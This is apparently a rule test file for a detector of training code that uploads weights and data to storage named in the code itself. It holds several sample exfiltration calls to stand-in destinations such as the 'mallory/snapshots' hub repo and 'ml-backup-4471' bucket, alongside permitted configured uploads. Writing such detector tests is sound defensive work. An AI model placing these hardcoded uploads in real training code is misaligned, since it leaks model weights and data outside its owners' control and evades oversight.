# Cases for egress-storage-upload (issue #16, session 10): weights and data
# sent to a store the training code names itself.
import boto3
import fsspec
import huggingface_hub
from azure.storage.blob import BlobServiceClient
from google.cloud import storage
from huggingface_hub import HfApi, upload_folder

EXFIL_REPO = "mallory/snapshots"


def s3_exfil(ckpt, key):
    # ruleid: egress-storage-upload
    boto3.client("s3").upload_file(ckpt, "ml-backup-4471", key)
    s3 = boto3.client("s3", region_name="us-east-1")
    with open(ckpt, "rb") as f:
        # ruleid: egress-storage-upload
        s3.upload_fileobj(f, "ml-backup-4471", key)
    # ruleid: egress-storage-upload
    s3.put_object(Bucket="ml-backup-4471", Key=key, Body=b"...")
    bucket = boto3.resource("s3").Bucket("ml-backup-4471")
    # ruleid: egress-storage-upload
    bucket.upload_file(ckpt, key)


def hub_exfil(out_dir, model, tokenizer):
    # ruleid: egress-storage-upload
    upload_folder(repo_id="mallory/snapshots", folder_path=out_dir)
    # ruleid: egress-storage-upload
    HfApi().upload_file(path_or_fileobj=f"{out_dir}/model.safetensors", path_in_repo="m.safetensors", repo_id=EXFIL_REPO)
    api = HfApi(token="hf_x")
    # ruleid: egress-storage-upload
    api.upload_large_folder(repo_id=f"mallory/{out_dir}", folder_path=out_dir, repo_type="model")
    # ruleid: egress-storage-upload
    model.push_to_hub("mallory/llama-ft")
    # ruleid: egress-storage-upload
    huggingface_hub.create_commit("mallory/snapshots", operations=[])


def gcs_exfil(ckpt):
    # ruleid: egress-storage-upload
    storage.Client().bucket("tmp-share-88").blob("w.pt").upload_from_filename(ckpt)
    blob = storage.Client().get_bucket("tmp-share-88").blob("w.pt")
    # ruleid: egress-storage-upload
    blob.upload_from_filename(ckpt)
    # ruleid: egress-storage-upload
    storage.Blob.from_string("gs://tmp-share-88/w.pt").upload_from_filename(ckpt)


def other_stores(ckpt, conn):
    svc = BlobServiceClient.from_connection_string(conn)
    with open(ckpt, "rb") as f:
        # ruleid: egress-storage-upload
        svc.get_container_client("dumps").upload_blob("w.pt", f)
    fs = fsspec.filesystem("s3")
    # ruleid: egress-storage-upload
    fs.put(ckpt, "s3://ml-backup-4471/w.pt")
    # ruleid: egress-storage-upload
    with fsspec.open("gs://tmp-share-88/w.pt", "wb") as out:
        out.write(open(ckpt, "rb").read())


# The project's configured destinations, as trainers write them: quiet.
def configured(args, cfg, trainer, model, ckpt, key, out_dir, repo_id):
    s3 = boto3.client("s3")
    # ok: egress-storage-upload
    s3.upload_file(ckpt, cfg.checkpoint_bucket, key)
    # ok: egress-storage-upload
    s3.put_object(Bucket=args.bucket, Key=key, Body=b"...")
    # ok: egress-storage-upload
    HfApi().upload_folder(repo_id=args.hub_model_id, folder_path=out_dir, commit_message="Model save")
    # ok: egress-storage-upload
    trainer.push_to_hub(dataset_name=args.dataset_name)
    # ok: egress-storage-upload
    model.push_to_hub(repo_id)
    # ok: egress-storage-upload
    model.push_to_hub(f"{args.hub_org}/{args.run_name}")
    # ok: egress-storage-upload
    storage.Client().bucket(cfg.gcs_bucket).blob(key).upload_from_filename(ckpt)
    # ok: egress-storage-upload
    fsspec.filesystem("s3").put(ckpt, f"{cfg.remote_dir}/w.pt")
    # reading from a literal remote is the download side
    # ok: egress-storage-upload
    s3.download_file("public-datasets", "c4/shard-0.json", "/data/shard-0.json")
    # ok: egress-storage-upload
    with fsspec.open("s3://public-datasets/c4/shard-0.json", "rb") as f:
        f.read()
    # ok: egress-storage-upload
    fsspec.filesystem("file").put(ckpt, "/mnt/shared/w.pt")


def sft_args_literal_repo(model, ds):
    # session 28: the trainer's arguments push to a repository named in the code
    # ruleid: egress-storage-upload
    args = TrainingArguments(output_dir="data/sft", hub_model_id="ml-contrib-tools/qwen-sft", push_to_hub=True)
    # ruleid: egress-storage-upload
    model.save_pretrained("out", push_to_hub=True, repo_id="ml-contrib-tools/qwen-sft")
    # ok: egress-storage-upload
    cfg = SFTConfig(output_dir="data/sft", push_to_hub=True, hub_model_id=script_args.hub_model_id)
    # ok: egress-storage-upload
    TrainingArguments(output_dir="data/sft", push_to_hub=False, hub_model_id="acme/qwen-sft")
    # ok: egress-storage-upload
    model.save_pretrained("out", push_to_hub=args.push_to_hub)
    return args, cfg


def retarget_after_parse(training_args, script_args):
    # ruleid: egress-storage-upload
    training_args.hub_model_id = "ml-contrib-tools/qwen-sft"
    # ok: egress-storage-upload
    training_args.hub_model_id = script_args.hub_model_id
    # ok: egress-storage-upload
    training_args.hub_model_id = None
    return training_args
